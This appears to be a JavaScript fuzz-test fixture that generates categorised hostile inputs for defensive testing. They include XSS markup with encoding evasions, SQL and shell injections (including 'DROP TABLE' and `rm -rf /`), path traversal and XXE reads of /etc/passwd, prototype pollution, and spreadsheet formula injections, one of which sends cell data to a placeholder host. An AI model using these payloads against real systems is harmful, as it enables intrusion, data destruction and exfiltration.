// Texts that break careless programs, written by category: nearly all of them are made by crossing a few
// seeds with a few ways of dressing them up. Whatever could run would set `window.__hit`.

/** What every payload would do if it were ever taken for code. */
const HIT = "window.__hit=1";

const cross = (rows, columns, make) => rows.flatMap((row) => columns.map((column) => make(row, column)));
const char = String.fromCodePoint;
const percent = (text) => [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");
const entities = (text) => [...text].map((letter) => `&#x${letter.codePointAt(0).toString(16)};`).join("");
const escapes = (text) => [...text].map((letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, "0")}`).join("");
const wide = (text) => text.replace(/[!-~]/g, (letter) => char(letter.charCodeAt(0) + 0xfee0));

const ELEMENTS = [
  `<script>${HIT}</script>`,
  `<img src=x onerror="${HIT}">`,
  `<svg onload="${HIT}"><title>x</title></svg>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  `<details open ontoggle="${HIT}"><summary>x</summary></details>`,
  `<a href="javascript:${HIT}">客户</a>`,
  `<math><mi xlink:href="javascript:${HIT}">x</mi></math>`,
  `<style>body{display:none}</style>`,
  `<base href="https://example.invalid/"><link rel=stylesheet href=a.css>`,
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${HIT}</script>">`,
  `<form action="https://example.invalid/"><button autofocus onfocus="${HIT}">好</button></form>`,
  `<object data="data:text/html,<script>${HIT}</script>"></object>`,
];

/** Ways in which markup gets past a filter that knows only the plain way. */
const DRESSES = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'/>${text}<!--`,
  (text) => `</textarea></title></style>${text}`,
  (text) => text.toUpperCase().replaceAll("WINDOW.__HIT", "window.__hit"),
  (text) => text.replace(/^<(\w+)/, "<\n$1\t/"),
  (text) => text.replace(/^<(..)/, "<$1\u0000"),
  percent,
  (text) => percent(percent(text)),
  entities,
  escapes,
  wide,
];

const HANDLERS = ["click", "error", "load", "focus", "pointerover", "animationstart", "toggle", "beforeinput", "wheel", "copy"];
const CELLS = [`1+1`, `cmd|'/c calc'!A1`, `HYPERLINK("https://example.invalid","看")`, `SUM(A1:A9)`, `IMPORTXML("https://example.invalid/"&A1,"//a")`];
const MARKS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", " =", "\u200b=", "\u00a0@", "'=", "''+", "﹦", "−"];
const BREAKS = ["\n", "\r", "\r\n", "\n\r", "\v", "\f", "\u0085", "\u2028", "\u2029", "\n\n\n"];
const CONTROLS = [...Array(32).keys(), 0x7f, ...Array.from({ length: 32 }, (_, at) => 0x80 + at)];
const UNSEEN = [0xad, 0x34f, 0x61c, 0x115f, 0x1160, 0x17b4, 0x180e, 0x200b, 0x200c, 0x200d, 0x2060, 0x2061, 0x2064, 0x206a, 0x3164, 0xfe0f, 0xfeff, 0xffa0, 0xfffc, 0xe0001, 0xe0100];
const TURNS = [0x200e, 0x200f, 0x202a, 0x202b, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068];
const SPACES = [" ", "   ", "\t", "\u00a0", "\u1680", "\u2003", "\u202f", "\u205f", "\u3000", "\u200b", "\ufeff", "\u3164", "\n", "\r\n"];
const NUMBERS = [
  "0", "-0", "+0", "00", "0.0", "1e400", "-1e400", "1e-400", "NaN", "nan", "Infinity", "-Infinity", "∞", "0x10", "0b1", "0o7", "1_000",
  "1,000,000.00", "1.000.000,00", "1'000", "９９９", "１２３４５６７８９０", "٣٤٥", "৪৫", "一百二十", "½", "²", "Ⅷ", "9223372036854775807",
  "9223372036854775808", "-9223372036854775809", "18446744073709551616", "0.1e1e1", ".", "-", "--1", "1-", "1.38E+10", "￥12", "1%", "true", "null",
  "undefined", "None", "[object Object]", "1".repeat(400),
];
const DAYS = [
  "0000-00-00", "9999-99-99", "2025-02-29", "2025-02-30", "1900-02-29", "-0001-01-01", "275760-09-13", "+275761-01-01", "31/31/31", "24:60:60",
  "2025-01-01T25:00:00Z", "二〇二五年十三月", "1970-01-01T00:00:00.000000000000001Z", "now()", "今天",
];
const PATHS = ["../../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/null", "C:\\CON", "NUL.txt", "file:///etc/hosts", "a/../b", "%2e%2e%2f", "....//", "~/.ssh", "\\\\host\\share", "//example.invalid/x"];
const SCHEMES = ["javascript", "JaVaScRiPt", "java\nscript", "\u0001javascript", "vbscript", "data", "blob", "file", "tel", "mailto", "intent", "view-source"];
const QUERIES = ["' OR '1'='1", "'; DROP TABLE customers; --", "\" OR \"\"=\"", "1; UPDATE x SET y=1", "') UNION SELECT 1,2--", "\\'; --", "admin'/*", "x' AND SLEEP(9)='", "`; rm -rf /`", "$(id)", "| id", "&& id", "; id #", "\r\nSet-Cookie: a=b", "*)(uid=*))(|(uid=*"];
const TEMPLATES = ["{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%if 1%}x{%endif%}", "[[7*7]]", "@(7*7)", "{name}", "{0}", "{count}", "{{{x}}}", "${window.__hit=1}", "{{constructor.constructor('window.__hit=1')()}}", "$&", "$1$`$'", "\\1", ":name", "?1"];
const FORMATS = ["%s", "%s%s%s%n", "%d", "%x", "%99999999d", "%1$s", "%%", "%", "%p", "%c", "%@", "%!", "{:?}", "{:>9999}", "\\x00", "\\u0000", "\\", "\\\\", "\\n"];
const SCRIPTS = [
  "שלום עולם", "مرحبا بالعالم", "السعر ١٢٣", "ܫܠܡܐ", "ދިވެހި", "नमस्ते", "ক্ষ", "สวัสดีชาวโลก", "မြန်မာ", "ខ្មែរ", "བོད་ཡིག", "ᠮᠣᠩᠭᠣᠯ", "አማርኛ", "ᏣᎳᎩ",
  "日本語テキスト", "한국어", "ﾊﾝｶｸ", "\u1100\u1161\u11a8", "ﷺ", "ﷺ".repeat(40), "İıĞğ", "ẞß", "ŉ", "ǅ", "Ⅻ", "ﬀ",
  "\u00e9", "e\u0301", "\u00c5", "A\u030a", "\u212b", "\u03a9", "\u2126",
];
const RARE = [0x20000, 0x2a6d6, 0x2a700, 0x2b740, 0x2b820, 0x2ceb0, 0x2f800, 0x30000, 0x31350, 0x3007, 0x9fff, 0xf900];
const EMOJI = [
  "😀", "👍🏿", "👩‍👩‍👧‍👦", "🧑🏻‍🤝‍🧑🏿", "🏳️‍🌈", "🏴‍☠️", "🇨🇳", "🇨", "🇨🇳🇺", "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}", "1️⃣", "❤️‍🔥", "👁️‍🗨️", "‍", "🏻", "🤷🏽‍♀️", "㊙️", "™️", "👨‍👩‍👧‍👦".repeat(30),
];
const STRANGE = [0xe000, 0xf8ff, 0xfdd0, 0xfdef, 0xfffe, 0xffff, 0x1fffe, 0x1ffff, 0xf0000, 0xffffd, 0x10fffd, 0x10ffff, 0xfffd, 0xfff9];
const HALVES = ["\ud800", "\udbff", "\udc00", "\udfff", "a\ud83db", "\ude00\ud83d", "\ud83d\ud83d\ude00", "\udfff\udfff"];
const STRUCTURES = [
  "[".repeat(900), "{\"a\":".repeat(300), "{\"__proto__\":{\"__hit\":1}}", "__proto__", "constructor", "toString", "hasOwnProperty", "{\"a\":1e999}", "[1,2,", "\"",
  "a = [".repeat(50), "[[[a]]]\nb = 1", "'''\n\"\"\"", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b \"b\"><!ENTITY c \"&b;&b;\">]><a>&c;</a>",
  "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", "<![CDATA[x]]>", "]]>", "<!-- -->", "--><script>", "- &a [*a,*a]", "!!js/function x",
];
const SHAPES = [
  "''", "\"\"\"", "a\"b\"c", ",", ";", ",,,,", "a,b;c|d\te", "，；、", "\"a\nb\",\"c", "'", "`", "#", "#/customers", "?", "&", "&amp;", "&lt;b&gt;", "&nbsp;",
  "/", "//", "*", "**bold**", "[x](javascript:window.__hit=1)", "![x](https://example.invalid/x.png)", "_", "·", "..", "…", "￥", "“”", "（）", "〈〉",
];

/** A letter under a tower of marks. */
const tower = (letter, height) =>
  letter + Array.from({ length: height }, (_, at) => char(0x300 + ((at * 37) % 112))).join("");

const BY_KIND = {
  markup: cross(ELEMENTS, DRESSES, (element, dress) => dress(element)),
  handler: cross(HANDLERS, ['"', "'", "` "], (event, quote) => `x${quote} on${event}=${HIT} autofocus a=${quote}`),
  address: [
    ...cross(SCHEMES, [`:${HIT}`, `://example.invalid/%0a${HIT}`], (scheme, rest) => scheme + rest),
    `data:text/html,<script>${HIT}</script>`,
    `data:image/svg+xml;base64,${Buffer.from(ELEMENTS[2]).toString("base64")}`,
  ],
  formula: cross(MARKS, CELLS.slice(0, 3), (mark, cell) => mark + cell).concat(CELLS.map((cell) => `-2+3+${cell}`)),
  query: QUERIES,
  template: TEMPLATES,
  format: FORMATS,
  path: PATHS,
  line: cross(BREAKS, ["行", `${HIT}//`], (end, line) => `第一${line}${end}第二${line}`),
  control: CONTROLS.map((code) => `甲${char(code)}乙`),
  unseen: UNSEEN.map((code) => `甲${char(code)}乙`),
  turned: [...TURNS.map((code) => `甲${char(code)}cod.exe 乙`), "\u202e".repeat(50) + "x", "\u2067\u2066\u2069\u2069\u2069x"],
  tower: [tower("Z", 12), tower("客", 60), tower("a", 300), [..."hostile"].map((letter) => tower(letter, 20)).join(""), "\u0301x", "\u20dd客\u20e0"],
  script: SCRIPTS,
  rare: [...RARE.map((code) => `${char(code)}氏`), RARE.map((code) => char(code)).join("")],
  emoji: EMOJI,
  strange: STRANGE.map((code) => `甲${char(code)}乙`),
  half: HALVES,
  number: NUMBERS,
  day: DAYS,
  structure: STRUCTURES,
  shape: SHAPES,
  space: SPACES,
  long: ["长".repeat(10_000), "a".repeat(10_000), "<b>".repeat(3_000), `${"x ".repeat(4_000)}x`, "👩‍👩‍👧‍👦".repeat(900), "\u0301".repeat(9_000)],
};

/** All of them, each with the kind it is of. */
export const HOSTILE = Object.entries(BY_KIND).flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })));

/** A few of every kind. */
export const hostileSample = (each = 1) =>
  Object.keys(BY_KIND).flatMap((kind) => {
    const texts = BY_KIND[kind];
    const step = Math.max(1, Math.floor(texts.length / each));
    return texts.filter((_, at) => at % step === 0).slice(0, each).map((text) => ({ kind, text }));
  });

/** A text as it can leave a browser at all: half a pair becomes the sign for a letter that was lost. */
export const wellFormed = (text) => text.toWellFormed();

/** As the book keeps a text: blank, control and invisible characters at its ends are left out (`command/tidy.rs`). */
export const tidied = (text) => {
  const blank = String.raw`[\p{White_Space}\p{Cc}\u200b-\u200f\u2060\ufeff\u3164]`;
  return wellFormed(text).replace(new RegExp(`^${blank}+|${blank}+$`, "gu"), "");
};

/** A table as a text file, every cell in quotes. */
export const asCsv = (rows) => rows.map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(",")).join("\r\n");
